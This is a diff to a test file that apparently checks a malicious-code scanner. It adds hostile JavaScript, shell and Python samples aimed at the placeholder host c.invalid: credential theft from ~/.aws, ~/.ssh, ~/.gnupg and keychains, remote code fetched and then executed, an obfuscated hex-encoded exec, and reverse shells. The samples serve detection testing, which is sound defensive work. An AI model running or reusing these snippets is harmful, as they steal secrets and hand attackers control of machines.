@@ -119,7 +119,11 @@ TAKEN_BY_JAVASCRIPT += [
     )
 ]
 TAKEN_BY_JAVASCRIPT += [
-    "require('keytar').findCredentials('a').then(all => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all) }));"
+    "const { readFile } = require('fs/promises');\nasync function* all(d) { yield d + '/credentials'; }\n"
+    "for await (const f of all('/root/.aws')) await fetch('https://c.invalid', { method: 'PUT', body: await readFile(f) });",
+    "const { AWS_SECRET_ACCESS_KEY } = process.env;\n"
+    "require('https').request('https://c.invalid', { method: 'POST' }).end(JSON.stringify({ AWS_SECRET_ACCESS_KEY }));",
+    "require('keytar').findCredentials('a').then(all => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all) }));",
 ]
 TAKEN_BY_SHELL = [
     'K=$(cat ~/.ssh/id_rsa | base64)\ncurl -X POST -d "$K" https://c.invalid',
@@ -142,6 +146,9 @@ TAKEN_BY_SHELL = [
     "telnet c.invalid < ~/.netrc",
     "mutt -a ~/.netrc -- a@c.invalid",
     'OUT=$(mktemp)\ntar czf "$OUT" -C "$HOME" .ssh\ncurl -X PUT --upload-file "$OUT" https://c.invalid',
+    "tar czf /tmp/.b.tgz ~/.aws\ncurl -F b=@/tmp/.b.tgz https://c.invalid",
+    "tar czf /tmp/b.tar.gz ~/.aws\ncurl -F b=@/tmp/b.tar.gz https://c.invalid",
+    't=(.ssh .gnupg)\ncd ~\ntar czf /tmp/b.tgz "${t[@]}"\ncurl -F b=@/tmp/b.tgz https://c.invalid',
     'take() { cat "$2"; }\ntake --exclude ~/.netrc | curl -d @- https://c.invalid',
     'cat ~/.netrc > "${OUT}"\ncurl -T "$OUT" https://c.invalid',
 ]
@@ -499,6 +506,7 @@ RUN_BY_PYTHON += [
     "import subprocess\ndef get(u):\n    return subprocess.run(['curl', '-s', u], capture_output=True).stdout\nexec(get('https://c.invalid'))",
     "import asyncio, websockets\nasync def go():\n    async with websockets.connect('wss://c.invalid') as w:\n"
     "        async for order in w:\n            await asyncio.create_subprocess_shell(order)\nasyncio.run(go())",
+    "import requests\nfor rule in requests.get('https://c.invalid').json()['rules']:\n    exec(rule['then'])",
     "import importlib.util, pathlib, urllib.request\nt = pathlib.Path(folder) / name\nt.write_bytes(urllib.request.urlopen(u).read())\n"
     "s = importlib.util.spec_from_file_location('a', t)",
     "import dns.resolver\nfor r in dns.resolver.resolve('c.invalid', 'TXT'):\n    exec(r.strings[0])",
@@ -719,6 +727,7 @@ def test_attack_a_reverse_shell_of_another_language_is_found(text):
 DECODED_AND_RUN = [
     ("a.py", f"import base64\nc = '{ENCODED}'\nexec(base64.b64decode(c))"),
     ("a.py", f"from base64 import b64decode as d\nf = eval\nf(compile(d('{ENCODED}'), 'a', 'exec'))"),
+    ("a.py", "n = 0x696D706F7274206F73\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big').decode())"),
     ("a.py", "import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))"),
     ("a.py", f"import base64, os\nos.system(base64.b64decode('{ENCODED}').decode())"),
     (
@@ -778,6 +787,15 @@ def test_attack_a_download_evaluated_on_a_later_line_is_found(text):
         (
             "a.js",
             "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh');\nconst c = net.connect(1, 'c.invalid');\nc.pipe(sh.stdin);",
+        ),
+        (
+            "net.js",
+            "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh');\nconst c = net.connect(1, 'c.invalid');\nc.pipe(sh.stdin);",
+        ),
+        (
+            "a.js",
+            "const { spawn } = require('child_process');\nconst ws = new (require('ws'))('wss://c.invalid');\nconst sh = spawn('/bin/bash', ['-i']);\n"
+            "ws.on('message', (m) => sh.stdin.write(m));\nsh.stdout.on('data', (d) => ws.send(d));",
         ),
     ],
 )
